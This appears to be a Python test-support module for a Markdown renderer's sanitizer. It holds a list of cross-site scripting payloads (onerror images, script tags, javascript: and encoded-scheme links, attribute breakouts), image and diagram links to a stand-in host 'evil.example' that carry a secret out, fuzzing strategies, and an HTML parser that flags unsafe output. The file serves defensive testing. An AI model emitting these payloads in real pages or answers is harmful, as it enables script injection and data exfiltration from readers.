"""Markdown that could make a reader act, and detectors for it."""

from __future__ import annotations

from html.parser import HTMLParser

from hypothesis import strategies as st

IMG = "<img src=x onerror=acted()>"
# Each aims at one difference between the readers: where code, mathematics or a link ends.
ATTACKS = [
    IMG,
    f"**bold** {IMG} `code`",
    "<script>acted()</script>",
    "<!-- a -->\n\n<?php a ?>\n\n<!DOCTYPE a>\n\n<![CDATA[a]]>",
    "<svg onload=acted()>",
    "<iframe src=javascript:acted()></iframe>",
    "<style>body { display: none }</style>",
    "<javascript:acted()>",
    "[x](javascript:acted())",
    "[x](JavaScript:acted())",
    "[x]( java&#115;cript:acted() )",
    "[x](javascript&colon;acted())",
    "[x](<javascript:acted()>)",
    "[x](vbscript:acted) [y](data:text/html,acted) [z](command:acted) [w](/lab/api)",
    "[r]:\n javascript:acted()\n\n[r]",
    "![x](http://evil.example/?secret)",
    "![x][r]\n\n[r]: http://evil.example/?secret",
    "[![x](http://evil.example/?secret)](http://evil.example)",
    f"- a\n\n  ```\n{IMG}\n  ```",
    f"> ```\n> {IMG}\n> ```\n{IMG}",
    f"text\n2. ```x\n   b\n   ```\n\n```\n{IMG}\n```",
    f"```\n```~~~\n{IMG}",
    f"```\n   ```\t\n{IMG}\n```",
    f"~~~ a ~~~ b\n{IMG}\n~~~",
    f"````\n```\n{IMG}\n```\n",
    f"x\n    ```\n\n    {IMG}\n    ```",
    f"www.a.b`x{IMG}`",
    f"a ` b\nc `{IMG}` d",
    f"[](`) {IMG} `",
    f"[a](\n`) {IMG} `",
    f'[a](http://x "` ") {IMG} `',
    f"[a](http://a(b)`) {IMG} `",
    f"\\` `` \\`{IMG}` `",
    f"| `a | {IMG}` |\n|---|---|\n| `a | {IMG}` |",
    f'[a]: http://x "\n```\n" \n{IMG}\n```',
    f"[\n~~~\n]:x\n{IMG}",
    f"[a\\]\n~~~\n]:x\n{IMG}",
    f"![\t\n~~~\n]:x\n{IMG}",
    f"$a\n```\n$ {IMG}\n```\n",
    f"a $$\n\n```\n$$ {IMG}\n```",
    f"$$\n\n~~~\n{IMG}\n~~~\n\n$$",
    f"\\begin{{a}}\n```\n\\end{{a}} {IMG}\n```",
    f"\\\\[ x\n\n```\n\\\\] {IMG}\n```",
    f"````\\begin{{a}}`\n=\\end{{a}}]:\n```\n{IMG}",
    f"$a<img src=x$ {IMG} onerror=acted()>$",
    'http://x/$"onmouseover="acted()$',
    'ftp://x/$"onmouseover="acted()$',
    'www.x.y/\\begin{a}"onmouseover="acted()\\end{a}',
    '[a](http://x/$"onmouseover="acted()$)',
    '[a](http://x "$"onmouseover="acted()$")',
    '`f\nhttp://x/$"onmouseover="acted()$\n- a\n   e `f',
    '# $"onmouseover="acted()$',
    "```mermaid\ngraph TD; a@{ img: 'http://evil.example/?secret' }\n```",
    f"~~~~mermaid1\n{IMG}\n~~~~",
    "$\\href{javascript:acted()}{x}$ $\\style{background:url(http://evil.example/?secret)}{x}$",
]

_SIGNS = [
    IMG, "<script>", "<!--", "-->", "<iframe src=z>", "<b", "a", "x y", "`", "``", "```", "~~~",
    "````", "~~~~", "\n", "\n", "\n\n", " ", "  ", "    ", "\t", "- ", "1. ", "2. ", "> ", "$",
    "$$", "\\(", "\\\\(", "\\\\[", "\\\\]", "\\\\)", "\\begin{a}", "\\end{a}", "[a]", "](", "[",
    "]", "]:", "(", ")", "http://x/", "www.a.b", "javascript:z", '"', "'", "![", "!", "\\", "|",
    "|---|", "<", "&lt;", "&#60;", "@@0@@", "# ", "---", "**", "_", "mermaid", "py", "\n```\n",
    "\n~~~\n", "\n    ", "\n   ", "\n  ", "&colon;", "a@b.c", "{", "}", "\r", "[^1]",
]  # fmt: skip
_LINES = [
    "", "", "```", "~~~", "   ```", "  ```py", "    ```", "- ```", "1. ```x", "2. ~~~", "> ```",
    f"> {IMG}", IMG, f"   {IMG}", f"    {IMG}", "- a", "  - b <script>", "    - c", "   e `f",
    f"g` {IMG} `h", "$$", "a $$ b", "$x", "y$ <b onclick=z>", "\\begin{a}", f"\\end{{a}} {IMG}",
    f"\\\\[ {IMG}", "\\\\]", '[a]: http://x "', f'" {IMG}', '[a](http://x/ "', "[b", "]: http://y",
    "[b\\]", "| a | b |", "|---|---|", f"| `c | {IMG}` |", '# $"onmouseover="z$',
    'http://x/$"onmouseover="z$', "![a](http://x)", "[c](javascript:z)", "<!--", "-->", "<div",
    "onclick=z>", "---", "```~~~", "````", "``` `a` ```", " x ``` y", "\t```", f"\t{IMG}", "\\",
    f"www.x`{IMG}`",
]  # fmt: skip
# Texts that are mostly signs, and texts that are mostly lines of many meanings.
TEXTS = st.lists(st.sampled_from(_SIGNS), max_size=40).map("".join) | st.lists(
    st.sampled_from(_LINES), max_size=14
).map("\n".join)

_TAGS = {
    "p", "a", "code", "pre", "span", "em", "strong", "h1", "h2", "h3", "h4", "h5", "h6", "ul",
    "ol", "li", "table", "thead", "tbody", "tr", "td", "th", "blockquote", "hr", "br", "del", "s",
    "input", "div",
}  # fmt: skip
_ATTRIBUTES = {"href", "title", "class", "id", "align", "style", "start", "type", "disabled"}
_SCHEMES = ("http://", "https://", "ftp://", "mailto:", "#")


class _Watch(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.harm: list[object] = []

    def handle_starttag(self, tag, attrs):
        if tag not in _TAGS:
            self.harm.append(tag)
        for name, value in attrs:
            wrong = name not in _ATTRIBUTES
            wrong |= name == "href" and not (value or "").lower().startswith(_SCHEMES)
            wrong |= name == "style" and not (value or "").startswith(("text-align", "opacity"))
            if wrong:
                self.harm.append((tag, name, value))

    def handle_comment(self, data):
        self.harm.append(f"<!--{data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def harm(html: str) -> list[object]:
    """The elements and attributes of a page that Markdown alone does not make."""
    watch = _Watch()
    watch.feed(html)
    watch.close()
    return watch.harm


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text = ""

    def handle_data(self, data):
        self.text += data


def words(html: str) -> str:
    """Return the visible text of a page."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.text
